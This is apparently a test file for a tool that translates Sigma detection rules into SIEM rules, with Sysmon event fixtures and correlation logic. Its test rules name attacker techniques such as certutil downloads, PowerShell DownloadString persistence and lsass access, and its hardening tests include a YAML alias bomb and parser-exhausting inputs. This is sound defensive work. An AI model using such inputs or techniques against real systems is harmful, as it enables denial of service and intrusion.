        ["WINDOWS_SYSMON", "1", certutil],
        ["WINDOWS_SYSMON", "3", certutil],
      ]);
      // A plain name is one field in the rules of different sources only where it is one column in all of them.
      const [, , plain] = translateSigmaYaml([run, http, corr("", "Image")].join("---\n"));
      expect(plain.problems.map((p) => `${p.code} ${p.path}: ${p.message}`)).toEqual([
        'UNSUPPORTED_CORRELATION correlation.group-by[0]: Image is Image (attributes.event_data.NewProcessName or attributes.event_data.Image) in "Certutil downloading" (document 1), Image (attributes.event_data.Image) in "Outbound HTTP" (document 2): a name the rules\' events are grouped by is one field in all of them (name each rule\'s field with aliases)',
      ]);
    });

    it("does not take a Security event's unlisted field as absent: its EventData may hold it", () => {
      expect(
        rejection(y`
          ${head("product: windows, service: security")}detection:
            selection:
              - EventID: 4624
              - TargetOutboundUserName: 'adele'
            condition: selection
        `),
      ).toEqual([
        expect.stringMatching(
          /^UNSUPPORTED_FIELD detection\.selection\[1\]\.TargetOutboundUserName: field TargetOutboundUserName is not listed for windows\/security events \(known fields: .*\): a Security record's EventData may hold it, so it is not taken as absent; name it EventData\.TargetOutboundUserName$/,
        ),
      ]);
    });
  });
});

describe("Sigma → Sysmon (WINDOWS_SYSMON): process creation with the fields 4688 lacks, the other categories, service: sysmon", () => {
  const sysmon = () => fixture("WINDOWS_SYSMON");
  const others = () => ALL_KINDS.flatMap((k) => fixture(k));
  const data = (raw: unknown): Record<string, string> => {
    const r = raw as { EventData: Record<string, string> | { Data: Array<{ Name: string; Value: string }> } };
    return "Data" in r.EventData
      ? Object.fromEntries(
          (r.EventData.Data as Array<{ Name: string; Value: string }>).map((d) => [d.Name, d.Value]),
        )
      : (r.EventData as Record<string, string>);
  };
  const eventId = (raw: unknown) => {
    const r = raw as { EventID?: number; System?: { EventID: number } };
    return r.System?.EventID ?? r.EventID;
  };
  /** The Sysmon records a rule matches (as their EventData), and whether it matches any other connector's event. */
  function matches(logsource: string, detection: string) {
    const result = one(`${head(logsource)}detection:\n${detection}\n`);
    expect(result.problems).toEqual([]);
    const test = compileFilterToPredicate(result.spec!.filter);
    return {
      result,
      matched: sysmon()
        .filter(({ event }) => test(event))
        .map(({ raw }) => ({ ...data(raw), id: eventId(raw) }) as Record<string, string> & { id: number }),
      elsewhere: others().filter(({ event }) => test(event)).length,
    };
  }

  it("runs a process creation rule with OriginalFileName, Hashes and the split hashes on Sysmon's event 1, and still on 4688 by Image", () => {
    const { result, matched } = matches(
      "category: process_creation, product: windows",
      [
        "  selection_img:",
        "    - Image|endswith: '\\certutil.exe'",
        "    - OriginalFileName: 'CertUtil.exe'",
        "  selection_cli:",
        "    CommandLine|contains|all: ['-urlcache', 'http']",
        "  selection_sysmon:",
        "    Hashes|contains: 'SHA256=7E3986501E70992C1521B0416C71FF72D3DCAD719D89439B379D63C9D08C3141'",
        "    sha1: '6b9964d2f0c7623f2cee42dd530426507b453155'",
        "    Company: 'Microsoft Corporation'",
        "    Product|contains: 'Windows'",
        "    Description: CertUtil.exe",
        "    CurrentDirectory|startswith: 'C:\\Users\\'",
        "    ParentCommandLine|contains: ' -enc '",
        "    IntegrityLevel: Medium",
        "    User|endswith: '\\adele.vance'",
        "  condition: selection_img and selection_cli and (selection_sysmon or not selection_sysmon)",
      ].join("\n"),
    );
    expect(matched.map((m) => [m.id, m.Image])).toEqual([[1, "C:\\Windows\\System32\\certutil.exe"]]);
    // The Sysmon-only fields are absent on 4688 records: `x or not x` with x never holding there is true.
    expect(result.notes.filter((n) => n.includes("4688"))).not.toEqual([]);
    const sysmonOnly = one(
      `${head("category: process_creation, product: windows")}detection:\n  selection:\n    OriginalFileName: CertUtil.exe\n    Hashes|contains: 'IMPHASH=6D7F26E01D69572CC5B94544A98045C1'\n  condition: selection\n`,
    );
    expect(sysmonOnly.problems).toEqual([]);
    expect(sysmonOnly.spec!.filter).toEqual({
      all: [
        connector("WINDOWS_SYSMON"),
        { field: "operation", op: "eq", value: "1" },
        { field: "attributes.event_data.OriginalFileName", op: "eq", value: "CertUtil.exe" },
        {
          field: "attributes.event_data.Hashes",
          op: "contains",
          value: "IMPHASH=6D7F26E01D69572CC5B94544A98045C1",
        },
      ],
    });
    const test = compileFilterToPredicate(sysmonOnly.spec!.filter);
    expect(sysmon().filter(({ event }) => test(event))).toHaveLength(1);
    expect(others().filter(({ event }) => test(event))).toHaveLength(0);
  });

  it("matches the split hash fields and the process ids as Sysmon writes them", () => {
    const { matched } = matches(
      "category: process_creation, product: windows",
      "  selection:\n    sha256: 2249CA6BB3B7FD78D815019F7CE463F4389B4D9A1836D1A8F0AB274EB5CA70E4\n    ParentProcessId: 6976\n  condition: selection",
    );
    expect(matched.map((m) => m.Image)).toEqual(["C:\\Users\\Public\\svc.exe"]);
  });

  it.each([
    [
      "network_connection",
      "  selection:\n    Initiated: 'false'\n    DestinationPort: [22, 3389]\n  filter_private:\n    SourceIp|cidr: ['10.0.0.0/8', '192.168.0.0/16']\n  condition: selection and not filter_private",
      [3, 3],
      ["203.0.113.99", "198.51.100.140"],
      (m: Record<string, string>) => m.SourceIp,
    ],
    [
      "dns_query",
      "  selection:\n    QueryName|endswith: '.update-check.example'\n  condition: selection",
      [22],
      ["cdn.update-check.example"],
      (m: Record<string, string>) => m.QueryName,
    ],
    [
      "file_event",
      "  selection:\n    TargetFilename|startswith: 'C:\\Users\\Public\\'\n    TargetFilename|endswith: '.exe'\n  condition: selection",
      [11],
      ["C:\\Users\\Public\\svc.exe"],
      (m: Record<string, string>) => m.TargetFilename,
    ],
    [
      "image_load",
      "  selection:\n    ImageLoaded|endswith: '\\System.Management.Automation.ni.dll'\n    Image|endswith: '\\powershell.exe'\n  condition: selection",
      [7],
      ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"],
      (m: Record<string, string>) => m.Image,
    ],
    [
      "registry_set",
      "  selection:\n    TargetObject|contains: '\\CurrentVersion\\Run\\'\n    Details|contains: '\\Users\\Public\\'\n  condition: selection",
      [13],
      ["C:\\Users\\Public\\svc.exe --silent"],
      (m: Record<string, string>) => m.Details,
    ],
    [
      "registry_event",
      "  selection:\n    TargetObject|contains: 'ServiceHelper'\n  condition: selection",
      [12, 13],
      ["CreateKey", "SetValue"],
      (m: Record<string, string>) => m.EventType,
    ],
    [
      "process_access",
      "  selection:\n    TargetImage|endswith: '\\lsass.exe'\n    GrantedAccess: '0x1010'\n  condition: selection",
      [10],
      ["C:\\Users\\Public\\svc.exe"],
      (m: Record<string, string>) => m.SourceImage,
    ],
    [
      // A WMI persistence (SigmaHQ's WMI event subscription rules): svc-sql's events of other ids are not in it.
      "wmi_event",
      [
        "  selection_user:",
        "    User|endswith: '\\svc-sql'",
        "  selection_persistence:",
        "    - Destination|contains|all: ['powershell', 'DownloadString']",
        "    - Consumer|contains: 'CommandLineEventConsumer'",
        "    - Query|contains: 'Win32_PerfFormattedData_PerfOS_System'",
        "    - EventNamespace|contains: 'cimv2'",
        "  condition: all of selection_*",
      ].join("\n"),
      [19, 20, 21],
      ["WmiFilterEvent", "WmiConsumerEvent", "WmiBindingEvent"],
      (m: Record<string, string>) => m.EventType,
    ],
    [
      "raw_access_thread",
      "  selection:\n    Device|contains: '\\Device\\HarddiskVolume'\n  filter_floppy:\n    Device|contains: floppy\n  filter_system:\n    Image: System\n  condition: selection and not 1 of filter_*",
      [9],
      ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"],
      (m: Record<string, string>) => m.Image,
    ],
    [
      "clipboard_capture",
      "  selection:\n    Image|endswith: '\\rdpclip.exe'\n    ClientInfo|contains: 'svc-sql'\n    Archived: 'true'\n    Hashes|contains: 'SHA256=9E1D4C7B'\n  condition: selection",
      [24],
      ["2"],
      (m: Record<string, string>) => m.Session,
    ],
    [
      // SigmaHQ's process hollowing rule: the image replaced in memory, but not by an installer.
      "process_tampering",
      "  selection:\n    Type: 'Image is replaced'\n  filter_installers:\n    Image|contains: '\\Program Files'\n  condition: selection and not filter_installers",
      [25],
      ["C:\\Windows\\System32\\dllhost.exe"],
      (m: Record<string, string>) => m.Image,
    ],
    [
      // An executable written to a user-writable folder by a process run from one (Sysmon 29), by its split hash too.
      "file_executable_detected",
      [
        "  selection:",
        "    TargetFilename|startswith: 'C:\\Users\\Public\\'",
        "    TargetFilename|endswith: ['.dll', '.exe']",
        "    Image|contains: '\\Users\\Public\\'",
        "    sha256: 654E9FC12332A843B230EF3F78844DC4FB42EC5A11D05DB1E6EC020EE24B0A8C",
        "    ProcessId: 5532",
        "  condition: selection",
      ].join("\n"),
      [29],
      ["C:\\Users\\Public\\Libraries\\version.dll"],
      (m: Record<string, string>) => m.TargetFilename,
    ],
    [
      // An executable Sysmon kept from being written (27), by its Hashes as recorded and its md5.
      "file_block_executable",
      "  selection:\n    TargetFilename|contains: '\\AppData\\Local\\Temp\\'\n    Hashes|contains: 'IMPHASH=72BC3856'\n    md5: 4c6265fdc6ff227ed1904ec490541a7d\n  condition: selection",
      [27],
      ["C:\\Users\\adele.vance\\AppData\\Local\\Temp\\wupd_4411.exe"],
      (m: Record<string, string>) => m.TargetFilename,
    ],
    [
      // A shredding Sysmon blocked (28): a document (not an executable) of the user's.
      "file_block_shredding",
      "  selection:\n    IsExecutable: 'false'\n    User|endswith: '\\adele.vance'\n    TargetFilename|contains: '\\Documents\\'\n  condition: selection",
      [28],
      ["Protect user documents"],
      (m: Record<string, string>) => m.RuleName,
    ],
    [
      // SigmaHQ's Sysmon configuration modification: Sysmon stopped (4) or a configuration loaded (16), not started.
      "sysmon_status",
      "  selection_stop:\n    State: Stopped\n  selection_conf:\n    ConfigurationFileHash|startswith: 'SHA256='\n  filter_started:\n    State: Started\n  condition: 1 of selection_* and not filter_started",
      [16, 4],
      ["C:\\ProgramData\\sysmon\\sysmonconfig.xml", "Stopped"],
      (m: Record<string, string>) => m.State ?? m.Configuration,
    ],
    [
      // SigmaHQ's Sysmon configuration error, without its write-protected media false positive.
      "sysmon_error",
      [
        "  selection_error:",
        "    Description|contains:",
        "      - 'Failed to open service configuration with error'",
        "      - 'Failed to connect to the driver to update configuration'",
        "  filter_main_generic:",
        "    Description|contains|all:",
        "      - 'Failed to open service configuration with error'",
        "      - 'Last error: The media is write protected.'",
        "  condition: selection_error and not 1 of filter_main_*",
      ].join("\n"),
      [255],
      ["DriverCommunication"],
      (m: Record<string, string>) => m.ID,
    ],
  ])(
    "runs category %s on the Sysmon events of its ids, and on nothing else",
    (category, detection, ids, values, value) => {
      const { matched, elsewhere } = matches(`category: ${category}, product: windows`, detection);
      expect(matched.map((m) => m.id)).toEqual(ids);
      expect(matched.map(value)).toEqual(values);
      expect(elsewhere).toBe(0);
    },
  );

  it("takes service: sysmon rules over every event id, EventID and EventData fields by name", () => {
    const { matched, result } = matches(
      "product: windows, service: sysmon",
      "  selection:\n    EventID: [3, 22]\n    Image|endswith: '\\svc.exe'\n  condition: selection",
    );
    expect(matched.map((m) => m.id)).toEqual([22, 3]);
    expect(result.spec!.entityMappings).toContainEqual({ entityType: "IP", field: "dst_ip" });
    expect(
      rejection(
        `${head("product: windows, service: sysmon")}detection:\n  selection:\n    FutureField: x\n  condition: selection\n`,
      ),
    ).toEqual([
      expect.stringMatching(
        /^UNSUPPORTED_FIELD detection\.selection\.FutureField: field FutureField is not listed for windows\/sysmon events .*: a Sysmon record's EventData may hold it, so it is not taken as absent; name it EventData\.FutureField$/,
      ),
    ]);
  });

  it("keeps a category's fields to its events': a field another event id has is absent", () => {
    expect(
      rejection(
        `${head("category: dns_query, product: windows")}detection:\n  selection:\n    DestinationPort: 53\n  condition: selection\n`,
      ),
    ).toEqual([
      expect.stringMatching(
        /^UNSUPPORTED_FIELD detection\.selection\.DestinationPort: field DestinationPort is not kept for sysmon\/dns_query events .*could never match$/,
      ),
    ]);
    // WMI's events name no process: an Image condition in a wmi_event rule could never hold.
    expect(
      rejection(
        `${head("category: wmi_event, product: windows")}detection:\n  selection:\n    Image|endswith: '\\wmiprvse.exe'\n  condition: selection\n`,
      ),
    ).toEqual([
      expect.stringMatching(
        /^UNSUPPORTED_FIELD detection\.selection\.Image\|endswith: field Image is not kept for sysmon\/wmi_event events .*could never match$/,
      ),
    ]);
  });

  it.each([
    ["file_block_executable", "27"],
    ["file_block_shredding", "28"],
    ["file_executable_detected", "29"],
  ])(
    "translates category %s to Sysmon's event %s, its EventData by name and the split hashes, with the file's hash as an entity",
    (category, id) => {
      const result = one(
        `${head(`category: ${category}, product: windows`)}detection:\n  selection:\n    TargetFilename|endswith: '.exe'\n    Image|startswith: 'C:\\Users\\'\n    User: 'CORP\\adele.vance'\n    ProcessGuid: '{3f2a1c4e-8b1d-674a-4ad3-ed55c2e9a614}'\n    sha1|contains: 30edf496\n  condition: selection\n`,
      );
      expect(result.problems).toEqual([]);
      expect(result.spec!.filter).toEqual({
        all: [
          connector("WINDOWS_SYSMON"),
          { field: "operation", op: "eq", value: id },
          { field: "attributes.event_data.TargetFilename", op: "endsWith", value: ".exe" },
          { field: "attributes.event_data.Image", op: "startsWith", value: "C:\\Users\\" },
          { field: "attributes.event_data.User", op: "eq", value: "CORP\\adele.vance" },
          {
            field: "attributes.event_data.ProcessGuid",
            op: "eq",
            value: "{3f2a1c4e-8b1d-674a-4ad3-ed55c2e9a614}",
          },
          { field: "attributes.file.hashes.sha1", op: "contains", value: "30edf496" },
        ],
      });
      expect(result.spec!.entityMappings).toEqual([
        { entityType: "HOST", field: "device" },
        { entityType: "ACCOUNT", field: "actor_user" },
        { entityType: "PROCESS", field: "attributes.process.name" },
        { entityType: "FILE_HASH", field: "attributes.file.hashes.sha256" },
        { entityType: "FILE_HASH", field: "attributes.file.hashes.sha1" },
      ]);
      // IsExecutable is written by event 28 only: on 27 and 29 a condition on it could never hold.
      const isExecutable = translateSigmaYaml(
        `${head(`category: ${category}, product: windows`)}detection:\n  selection:\n    IsExecutable: 'true'\n  condition: selection\n`,
      )[0];
      expect(isExecutable.problems.map((p) => p.code)).toEqual(id === "28" ? [] : ["UNSUPPORTED_FIELD"]);
    },
  );
});

describe("Sigma import input: multi-document YAML, limits and hostile documents", () => {
  const rule = (id: string, event = "StopLogging") =>
    `title: Rule ${id}\nid: ${id}\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  selection:\n    eventName: ${event}\n  condition: selection\nlevel: low\n`;

  it("translates each document on its own: a broken one is reported with its line, the others are kept", () => {
    const yaml = [
      `# a comment before the first rule\n${rule("rule-a")}`,
      "title: [unclosed\n",
      "- a\n- list\n",
      "just a string\n",
      rule("rule-b"),
      rule("rule-a", "DeleteTrail"),
      "",
    ].join("---\n");
    const results = translateSigmaYaml(yaml);
    expect(results.map((r) => [r.document, r.line, r.sigmaId, r.spec ? "ok" : r.problems[0].code])).toEqual([
      [1, 2, "rule-a", "ok"],
      [2, 13, null, "INVALID_YAML"],
      [3, 15, null, "NOT_A_RULE"],
      [4, 18, null, "NOT_A_RULE"],
      [5, 20, "rule-b", "ok"],
      [6, 31, "rule-a", "DUPLICATE_ID"],
    ]);
    expect(results[1].problems[0].message).toBe(
      "not valid YAML at line 14: Flow sequence in block collection must be sufficiently indented and end with a ]",
    );
    expect(results[5].problems[0].message).toBe("the id rule-a is used by an earlier rule of this import");
    // Each rule keeps its own YAML (without the document markers), comments included.
    expect(results[0].yaml).toBe(`# a comment before the first rule\n${rule("rule-a")}`.trim());
    expect(results[4].yaml).toBe(rule("rule-b").trim());
  });

  it("reads a lone rule between document markers, leaving the markers out of its YAML", () => {
    const result = one(`---\n${rule("marked")}...\n`);
    expect([result.sigmaId, result.problems, result.yaml]).toEqual(["marked", [], rule("marked").trim()]);
  });

  it("refuses YAML aliases (billion laughs) without expanding them, and keeps the other rules", () => {
    const bomb = [
      "title: lol",
      "id: 8c3f7a2e-0000-4000-8000-000000000001",
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]",
      "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]",
      "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]",
      "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]",
      "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]",
      "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]",
      "h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]",
      "i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]",
      "",
    ].join("\n");
    const results = translateSigmaYaml(`${bomb}---\n${rule("rule-c")}`);
    expect(results.map((r) => r.problems.map((p) => `${p.code}: ${p.message}`))).toEqual([
      ["INVALID_YAML: YAML aliases (*name) are not supported: write the value out"],
      [],
    ]);
    expect(results[0].sigmaId).toBeNull();
  });

  it("refuses duplicate keys, custom tags, binary values and infinite numbers", () => {
    const codes = (yaml: string) => one(yaml).problems.map((p) => `${p.code}: ${p.message}`);
    expect(codes(`${rule("dup")}level: high\n`)).toEqual([
      expect.stringMatching(/^INVALID_YAML: not valid YAML at line 11: Map keys must be unique/),
    ]);
    expect(codes(`${rule("tagged")}extra: !python/object foo\n`)).toEqual([
      expect.stringMatching(/^INVALID_YAML: not plain YAML at line 11: Unresolved tag: !python\/object/),
    ]);
    expect(codes(`${rule("binary")}extra: !!binary aGVsbG8=\n`)).toEqual([
      "INVALID_YAML: holds a value of an unsupported YAML type (Uint8Array)",
    ]);
    expect(codes(`${rule("inf")}extra: .inf\n`)).toEqual(["INVALID_YAML: holds a number that is not finite"]);
  });

  it("refuses, before parsing, text over the size limit, too many documents and deep flow nesting", () => {
    const tooBig = `${rule("big")}description: "${"x".repeat(SIGMA_LIMITS.maxBytes)}"\n`;
    expect(() => translateSigmaYaml(tooBig)).toThrow(SigmaInputError);
    expect(() => translateSigmaYaml(tooBig)).toThrow(/at most 262144 are accepted per import/);
    const many = Array.from({ length: SIGMA_LIMITS.maxDocuments + 1 }, (_, i) => rule(`r${i}`)).join("---\n");
    expect(() => translateSigmaYaml(many)).toThrow("At most 100 rules are accepted per import.");
    expect(
      translateSigmaYaml(Array.from({ length: 100 }, (_, i) => rule(`r${i}`)).join("---\n")),
    ).toHaveLength(100);
    // Twenty thousand nested brackets would exhaust the parser's memory: the lexer counts them first, fast.
    const deep = `${rule("deep")}x: ${"[".repeat(20_000)}${"]".repeat(20_000)}\n`;
    expect(() => translateSigmaYaml(deep)).toThrow(/nests flow collections .* more than 32 levels deep/);
    // So would `- - - …`, a block sequence per indicator on one line.
    expect(() => translateSigmaYaml(`${rule("seq")}---\n${"- ".repeat(60_000)}x\n`)).toThrow(
      /nests block collections .* more than 32 levels deep on one line/,
    );
    // Brackets inside quoted text are text, not nesting.
    expect(one(`${rule("quoted")}description: "${"[".repeat(100)}"\n`).problems).toEqual([]);
  });

  it("matches identifier patterns of many * without backtracking (a pattern is not made a regular expression)", () => {
    const pattern = `${"a*".repeat(2000)}b`;
    const yaml = `${rule("stars")
      .replace("  selection:", `  ${"a".repeat(60)}:`)
      .replace("condition: selection", `condition: 1 of ${pattern}`)}`;
    expect(one(yaml).problems).toEqual([
      {
        code: "INVALID_CONDITION",
        path: "detection.condition",
        message: `"${pattern}" matches no search identifier`,
      },
    ]);
  });

  it("refuses input with no rule at all", () => {
    expect(() => translateSigmaYaml("")).toThrow("The YAML holds no Sigma rule.");
    expect(() => translateSigmaYaml("# only a comment\n---\n---\n")).toThrow("The YAML holds no Sigma rule.");
  });
});

// ---------------------------------------------------------------------------------------------------------
// Semantics over the fixtures: a rule matches exactly the records the Sigma rule describes
// ---------------------------------------------------------------------------------------------------------

const FIXTURES = join(__dirname, "../../../../../test/fixtures/siem");

/** A fixture's raw records with their normalised events (the `connector` column as the store sets it). */
function fixture(kind: ConnectorKind): Array<{ raw: unknown; event: EventLike }> {
  return parseNdjson(readFileSync(join(FIXTURES, `${kind}.ndjson`), "utf8")).flatMap((line) => {
    if (!("value" in line)) return [];
    const event = normalize(kind, line.value);
    return "reason" in event ? [] : [{ raw: line.value, event: { ...event, connector: kind } as EventLike }];
  });
}
const ALL_KINDS: ConnectorKind[] = [
  "AZURE_ACTIVITY",
  "ENTRA_SIGNIN",
  "AWS_CLOUDTRAIL",
  "SYSLOG_CEF",
  "M365_AUDIT",
  "OCSF",
  "OKTA_SYSTEM_LOG",
  "GCP_AUDIT",
  "WINDOWS_SECURITY",
];

describe("Sigma semantics over the fixtures (the NRT predicate)", () => {
  for (const { name, yaml, kind, means, count } of SIGMA_SEMANTICS) {
    it(name, () => {
      const test = compileFilterToPredicate(filterOf(yaml));
      const expected = fixture(kind)
        .filter(({ raw }) => means(raw))
        .map(({ event }) => event);
      expect(expected).toHaveLength(count);
      // Exactly the records the rule describes, and no event of any other connector.
      const matched = ALL_KINDS.flatMap((k) => fixture(k))
        .filter(({ event }) => test(event))
        .map(({ event }) => event);
      expect(matched).toEqual(expected);
    });
  }
});

describe("Sigma correlation rules", () => {
  const FAILED = "5c4c2b9a-1d2e-4f30-8a4b-6c7d8e9f0a11";
  const LOCKED = "6d5d3c0b-2e3f-4a41-9b5c-7d8e9f0a1b22";
  const CORRELATION = "7e6e4d1c-3f40-4b52-8c6d-8e9f0a1b2c33";
  const base = (name: string, id: string, codes: string, extra = "") => y`
    title: Sign-in failed ${name}
    id: ${id}
    name: ${name}
    tags: [attack.credential_access, attack.t1110]
    logsource:
      product: azure
      service: signinlogs
    detection:
      selection:
        ResultType: ${codes}
      condition: selection
    level: low
    ${extra}
  `;
  const MFA = "8f7f5e2d-4051-4c63-9d7e-9f0a1b2c3d44";
  const failed = base("failed_signin", FAILED, "50126");
  const locked = base("locked_signin", LOCKED, "50053");
  const mfa = base("mfa_signin", MFA, "50074");
  /** A correlation rule whose `correlation:` section is the given lines (indented two spaces each). */
  const correlation = (body: string, extra = "", id = CORRELATION) =>
    `title: Many failed sign-ins\nid: ${id}\nname: many_failed\n${extra}correlation:\n${body
      .split("\n")
      .map((l) => `  ${l}`)
      .join("\n")}\nlevel: high\n`;
  const EVENT_COUNT =
    "type: event_count\nrules:\n  - failed_signin\ngroup-by:\n  - UserPrincipalName\ntimespan: 1h\ncondition:\n  gte: 10";
  /** Three sign-in failures of one account within the hour, in any order (no condition: all of them). */
  const TEMPORAL =
    "type: temporal\nrules:\n  - failed_signin\n  - locked_signin\n  - mfa_signin\ngroup-by:\n  - UserPrincipalName\ntimespan: 1h";
  const TEMPORAL_CONDITION = "type: temporal\ncondition:";
  const translate = (...docs: string[]) => translateSigmaYaml(docs.join("---\n"));
  /** The problems of the correlation rules among the documents, as `code path: message` lines. */
  const problemsOf = (...docs: string[]) =>
    translate(...docs)
      .filter((r) => r.yaml.includes("correlation:"))
      .flatMap((r) => r.problems.map((p) => `${p.code} ${p.path}: ${p.message}`));
  const signins = connector("ENTRA_SIGNIN");

  it("with slidingWindow, counts event_count and value_count over a sliding window of the timespan, not temporal", () => {
    const sliding = (...docs: string[]) => translateSigmaYaml(docs.join("---\n"), { slidingWindow: true });
    expect(sliding(failed, correlation(EVENT_COUNT))[1].spec!.summarize).toEqual({
      by: ["attributes.user.email_addr"],
      aggregate: "COUNT",
      window: "PT1H",
    });
    const temporal = sliding(failed, locked, mfa, correlation(TEMPORAL))[3];
    expect(temporal.spec!.summarize).not.toHaveProperty("window");
    expect(temporal.notes).toContain(
      "slidingWindow does not apply to temporal correlations: they run over each fixed period.",
    );
  });

  it("turns event_count with group-by into a count per group over the timespan; the base rule is not imported on its own", () => {
    const [rule, corr] = translate(failed, correlation(EVENT_COUNT));
    expect([rule.sigmaId, rule.standalone, rule.problems]).toEqual([FAILED, false, []]);
    expect(rule.spec).not.toBeNull();
    expect(rule.notes).toEqual([
      "Not imported on its own: the correlation rule Many failed sign-ins of this import refers to it, and Sigma does not generate such rules unless the correlation says generate: true.",
    ]);
    expect([corr.sigmaId, corr.standalone, corr.problems]).toEqual([CORRELATION, true, []]);
    expect(corr.spec).toEqual({
      kind: "SCHEDULED",
      displayName: "Many failed sign-ins",
      description: [
        'Sigma event_count correlation of "Sign-in failed failed_signin" (document 1).',
        `Imported from Sigma rule ${CORRELATION}.`,
      ].join("\n\n"),
      severity: "HIGH",
      enabled: false,
      filter: { all: [signins, { field: "attributes.error_code", op: "eq", value: 50126 }] },
      summarize: { by: ["attributes.user.email_addr"], aggregate: "COUNT" },
      trigger: { operator: "GTE", threshold: 10 },
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      tactics: ["CredentialAccess"],
      techniques: ["T1110"],
      entityMappings: [{ entityType: "ACCOUNT", field: "attributes.user.email_addr" }],
      alertPerResult: true,
    });
    expect(corr.notes).toEqual([
      "The correlation has no tags: it takes the ATT&CK tags of the rules it refers to.",
    ]);
    // Stored with the rule it refers to, so its YAML imports again on its own.
    expect(corr.yaml).toBe(`${correlation(EVENT_COUNT).trim()}\n---\n${failed.trim()}`);
    expect(translate(corr.yaml).map((r) => [r.sigmaId, r.standalone, r.problems])).toEqual([
      [CORRELATION, true, []],
      [FAILED, false, []],
    ]);
  });

  it("refers to rules by id as well as by name, in any order of the documents", () => {
    const byId = correlation(EVENT_COUNT.replace("- failed_signin", `- ${FAILED.toUpperCase()}`));
    const [corr, rule] = translate(byId, failed);
    expect([corr.problems, rule.standalone]).toEqual([[], false]);
    expect(corr.spec!.filter).toEqual({
      all: [signins, { field: "attributes.error_code", op: "eq", value: 50126 }],
    });
  });

  it("turns value_count into a distinct count of the field per group, with the correlation's own tags", () => {
    const body = EVENT_COUNT.replace("event_count", "value_count").replace(
      "gte: 10",
      "field: IPAddress\n  gt: 3",
    );
    const [, corr] = translate(failed, correlation(body, "tags: [attack.t1110.003]\n"));
    expect(corr.problems).toEqual([]);
    expect(corr.spec).toMatchObject({
      summarize: { by: ["attributes.user.email_addr"], aggregate: "DISTINCT_COUNT", field: "src_ip" },
      trigger: { operator: "GT", threshold: 3 },
      tactics: [],
      techniques: ["T1110.003"],
    });
  });

  it("counts the events of several rules over one log source as the OR of their searches", () => {
    const body = EVENT_COUNT.replace("- failed_signin", "- failed_signin\n  - locked_signin");
    const [first, second, corr] = translate(failed, locked, correlation(body));
    expect([first.standalone, second.standalone, corr.problems]).toEqual([false, false, []]);
    expect(corr.spec!.filter).toEqual({
      all: [
        signins,
        {
          any: [
            { field: "attributes.error_code", op: "eq", value: 50126 },
            { field: "attributes.error_code", op: "eq", value: 50053 },
          ],
        },
      ],
    });
  });

  it("imports the base rules on their own too when the correlation or the rule says generate: true", () => {
    const generated = translate(failed, correlation(`${EVENT_COUNT}\ngenerate: true`));
    expect(generated.map((r) => [r.standalone, r.notes.length])).toEqual([
      [true, 0],
      [true, 1],
    ]);
    const own = translate(base("failed_signin", FAILED, "50126", "generate: true"), correlation(EVENT_COUNT));
    expect(own.map((r) => r.standalone)).toEqual([true, true]);
    // A rule no correlation refers to is imported as always.
    expect(translate(failed, locked, correlation(EVENT_COUNT)).map((r) => r.standalone)).toEqual([
      false,
      true,
      true,
    ]);
  });

  it("takes a range that allows one count, or bounds it on one side only; without group-by it counts all events", () => {
    const trigger = (condition: string) => {
      const body = EVENT_COUNT.replace("group-by:\n  - UserPrincipalName\n", "").replace(
        "gte: 10",
        condition,
      );
      const [, corr] = translate(failed, correlation(body));
      expect(corr.problems).toEqual([]);
      expect(corr.spec!.summarize).toEqual({ by: [], aggregate: "COUNT" });
      return corr.spec!.trigger;
    };
    expect(trigger("gte: 5\n  lte: 5")).toEqual({ operator: "EQ", threshold: 5 });
    expect(trigger("gt: 4\n  lt: 6")).toEqual({ operator: "EQ", threshold: 5 });
    expect(trigger("gt: 4\n  gte: 2")).toEqual({ operator: "GTE", threshold: 5 });
    expect(trigger("gte: 0\n  lt: 6")).toEqual({ operator: "LTE", threshold: 5 });
    expect(trigger("lte: 3")).toEqual({ operator: "LTE", threshold: 3 });
    expect(trigger("eq: 7")).toEqual({ operator: "EQ", threshold: 7 });
    expect(trigger("neq: 0")).toEqual({ operator: "NE", threshold: 0 });
  });

  it("keeps the schedule options: a frequency shorter than the timespan makes the windows overlap", () => {
    const results = translateSigmaYaml([failed, correlation(EVENT_COUNT)].join("---\n"), {
      queryFrequency: "PT10M",
      enabled: true,
    });
    expect(results[1].spec).toMatchObject({ queryFrequency: "PT10M", queryPeriod: "PT1H", enabled: true });
  });

  it("turns temporal into FILTERS_MATCHED over the rules' searches as named filters: without a condition, all of them", () => {
    const [, , , corr] = translate(failed, locked, mfa, correlation(TEMPORAL));
    expect(corr.problems).toEqual([]);
    const code = (value: number) => ({ field: "attributes.error_code", op: "eq", value });
    expect(corr.spec).toMatchObject({
      kind: "SCHEDULED",
      description: expect.stringMatching(/^Sigma temporal correlation of "Sign-in failed failed_signin"/),
      filter: { all: [signins, { any: [code(50126), code(50053), code(50074)] }] },
      summarize: {
        by: ["attributes.user.email_addr"],
        aggregate: "FILTERS_MATCHED",
        filters: [
          { name: "failed_signin", filter: code(50126) },
          { name: "locked_signin", filter: code(50053) },
          { name: "mfa_signin", filter: code(50074) },
        ],
      },
      trigger: { operator: "GTE", threshold: 3 },
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      entityMappings: [{ entityType: "ACCOUNT", field: "attributes.user.email_addr" }],
    });
    expect(validateRuleSpec(corr.spec)).toEqual([]);
    // Stored with its rules, its YAML imports again as the same rule.
    const again = translate(corr.yaml);
    expect(again.map((r) => [r.sigmaId, r.standalone, r.problems])).toEqual([
      [CORRELATION, true, []],
      [FAILED, false, []],
      [LOCKED, false, []],
      [MFA, false, []],
    ]);
    // The same rule but for the documents its description names.
    expect({ ...again[0].spec, description: "" }).toEqual({ ...corr.spec, description: "" });
  });

  it("takes a temporal condition on the number of rules matched when it is one comparison of that number", () => {
    const trigger = (condition: string) => {
